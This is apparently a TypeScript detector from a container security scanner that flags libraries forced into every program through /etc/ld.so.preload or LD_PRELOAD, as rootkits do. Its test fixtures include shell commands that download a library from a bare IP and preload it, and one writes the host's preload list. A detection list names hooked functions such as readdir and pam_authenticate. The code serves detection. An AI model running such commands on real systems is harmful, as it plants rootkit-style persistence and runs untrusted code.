import { elf } from '../analyzers/elf.ts';
import { factsOf } from '../analyzers/facts-of.ts';
import type { FetchEffect } from '../trace/effect.ts';
import { literals, textOf } from '../trace/value.ts';
import { type DestinationKind, destinationOf } from './destinations.ts';
import type { Detector, FindingDraft, Scene } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { fileFinding } from './file-finding.ts';
import { layerOf, reachOfFile } from './file-place.ts';
import { severityOf, type Threat } from './severity.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { clip, valueWords } from './wording.ts';

/** A library forced into every program. */
export const libraryPreload: Detector = {
  id: 'library-preload',
  version: 3,
  title: 'Forces a library into other programs.',
  attack: ['T1574.006', 'T1014'],
  description: `
\`/etc/ld.so.preload\` and \`LD_PRELOAD\` load a library into every program. Memory allocators use it openly (a *note* for a
variable). Rootkits use it to hide: their library replaces the functions that list folders and processes. *Malicious* when the
library does that, the host's list is written, or the library was just downloaded from an address that nobody vouches for;
*suspicious* when \`/etc/ld.so.preload\` is written with a library that is
not in the image or lies in a temporary folder.
`,
  fires: [
    {
      name: 'a library that hides processes',
      image: {
        cmd: ['sh', '-c', 'echo /usr/local/lib/libsystem.so > /etc/ld.so.preload; exec app'],
        files: { '/usr/local/lib/libsystem.so': { content: hider(), mode: 0o755 } },
      },
    },
    {
      name: 'a list that came with the image',
      image: { files: { '/etc/ld.so.preload': '/lib/libx.so\n', '/lib/libx.so': { content: hider(), mode: 0o755 } } },
    },
    {
      name: 'a library that was just downloaded',
      image: {
        cmd: [
          'sh',
          '-c',
          'curl -s http://203.0.113.7/l.so -o /usr/local/lib/libp.so; echo /usr/local/lib/libp.so > /etc/ld.so.preload; exec app',
        ],
      },
    },
    { name: "the host's list", image: { cmd: ['sh', '-c', 'echo /tmp/x.so > /host/etc/ld.so.preload'] } },
    { name: 'an allocator', severity: 'note', image: { env: ['LD_PRELOAD=/usr/lib/libjemalloc.so.2'] } },
  ],
  silent: [
    {
      name: 'an allocator',
      severity: 'note',
      image: { cmd: ['sh', '-c', 'export LD_PRELOAD=/usr/lib/libjemalloc.so.2; exec app'] },
    },
    {
      name: 'a wrapper that finds its library',
      image: { cmd: ['sh', '-c', 'export LD_PRELOAD="$LD_PRELOAD:$(find /usr/lib -name libjemalloc.so.2)"; exec app'] },
    },
    { name: 'switching it off', image: { cmd: ['sh', '-c', 'unset LD_PRELOAD; exec app'] } },
  ],
  detect(scene) {
    return [...written(scene), ...lying(scene), ...environment(scene)];
  },
};

function written(scene: Scene): readonly FindingDraft[] {
  return effectsOf(scene, 'preload').flatMap((effect) => {
    const sighting = sightingOf(scene, effect);
    const library = literals(effect.library).trim();
    // A wrapper that hands on what it was given (`LD_PRELOAD=$LD_PRELOAD:$extra`) names no library.
    if (effect.how === 'environment' && /^[\s:]*$/.test(library)) return [];
    const hooks = hooksOf(scene, textOf(effect.library)?.trim());
    const fetch = effect.how === 'file' ? downloadOf(scene, effect.stage, library) : undefined;
    return findingOf(scene, sighting, {
      threat: sighting.outside ? 'hostile' : threatOf(scene, library, hooks, effect.how),
      paired: fetch && `The library was downloaded from ${valueWords(fetch.url, 80)}, which nobody vouches for.`,
      title: titleOf(valueWords(effect.library, 80), hooks, sighting.outside),
      because: hooks ? `It replaces ${hooks.join(', ')}.` : undefined,
      effects: [effect.id, ...(fetch ? [fetch.id] : [])],
    });
  });
}

/** The download of a listed library in the same start, when whoever is behind the address does not say who that is. */
function downloadOf(scene: Scene, stage: number, listed: string): FetchEffect | undefined {
  const libraries = new Set(listed.split(/[\s:]+/).filter((library) => library.startsWith('/')));
  if (libraries.size === 0) return undefined;
  const { stages } = scene.story;
  return effectsOf(scene, 'fetch').find((fetch) => {
    const to = fetch.to && textOf(fetch.to);
    if (to === undefined || !libraries.has(to)) return false;
    if (fetch.stage !== stage && stages[fetch.stage]?.start !== stages[stage]?.start) return false;
    return unvouched.has(destinationOf(fetch.url).kind);
  });
}

const unvouched = new Set<DestinationKind>(['bare', 'onion', 'paste', 'throwaway', 'channel']);

/** `/etc/ld.so.preload` as a file of the image. */
function lying(scene: Scene): readonly FindingDraft[] {
  const file = scene.facts.files.get('/etc/ld.so.preload');
  const text = file && scene.facts.files.text(file);
  if (!file || text === undefined) return [];
  return text
    .split(/[\s:]+/)
    .filter((library) => library.startsWith('/'))
    .slice(0, 20)
    .flatMap((library) => {
      const hooks = hooksOf(scene, library);
      return fileFinding(scene, {
        path: file.path,
        layer: file.layer,
        reach: reachOfFile(scene, file.path, file.layer, 'armed'),
        threat: threatOf(scene, library, hooks, 'file'),
        title: titleOf(clip(library, 80), hooks, undefined),
        because: hooks ? `It replaces ${hooks.join(', ')}.` : undefined,
        text: library,
      });
    });
}

function environment(scene: Scene): readonly FindingDraft[] {
  return (scene.facts.image.config.config?.Env ?? []).slice(0, 1000).flatMap((entry): FindingDraft[] => {
    const match = /^(LD_PRELOAD|LD_AUDIT)=(.{1,500})/.exec(entry);
    const library = match?.[2]?.split(/[\s:]/, 1)[0];
    if (!library) return [];
    const hooks = hooksOf(scene, library);
    const judged = severityOf({
      threat: threatOf(scene, library, hooks, 'environment'),
      reach: 'runs',
      because: hooks ? `It replaces ${hooks.join(', ')}.` : undefined,
    });
    if (!judged) return [];
    const where = { config: 'Env' };
    const at = scene.facts.files.resolve(library);
    return [
      {
        title: titleOf(clip(library, 80), hooks, undefined),
        ...judged,
        confidence: 'high',
        reach: 'runs',
        where,
        evidence: [
          { text: clip(entry, 600), where },
          ...(at
            ? [{ text: at.path, where: { layer: layerOf(scene, at.layer), path: at.path }, note: 'the library' }]
            : []),
        ],
      },
    ];
  });
}

function titleOf(library: string, hooks: readonly string[] | undefined, outside: string | undefined): string {
  const scope = outside ? `every program of the HOST, through ${outside}` : 'every program';
  return hooks ? `Hides files or processes by loading ${library} into ${scope}` : `Loads ${library} into ${scope}`;
}

function threatOf(
  scene: Scene,
  library: string,
  hooks: readonly string[] | undefined,
  how: 'file' | 'environment',
): Threat {
  if (hooks) return 'hostile';
  if (/(^|\/)(tmp|dev\/shm|var\/tmp)\/|\/\./.test(library)) return 'dual-use';
  const there = library !== '' && scene.facts.files.resolve(library) !== undefined;
  return how === 'file' && !there ? 'dual-use' : 'minor';
}

/** The functions for listing that a library replaces; `undefined` when it replaces none of them. */
function hooksOf(scene: Scene, library: string | undefined): readonly string[] | undefined {
  if (!library) return undefined;
  const path = scene.facts.files.resolve(library)?.path ?? library;
  for (const fact of factsOf(scene.facts, elf)) {
    if (fact.path !== path) continue;
    const hooks = fact.data.exports.filter((name) => listing.has(name));
    if (hooks.length > 0) return hooks;
    const needles = scene.facts.layers[fact.layer]?.files.find((file) => file.path === path)?.needles ?? [];
    // A stripped or damaged symbol table still leaves the names: looking up the real function is the mark of a replacement.
    const named = needles.filter((needle) => listing.has(needle));
    if (named.length > 0 && needles.includes('dlsym')) return named;
  }
  return undefined;
}

const listing = new Set(['readdir', 'readdir64', 'readdir_r', 'getdents64', 'pam_authenticate', 'pam_sm_authenticate']);

/** An ELF header and some names: no library. */
function hider(): Uint8Array {
  const names = new TextEncoder().encode('readdir\0readdir64\0dlsym\0/proc/self/fd/%d\0');
  const bytes = new Uint8Array(64 + names.length);
  bytes.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 62, 0, 1]);
  bytes.set(names, 64);
  return bytes;
}
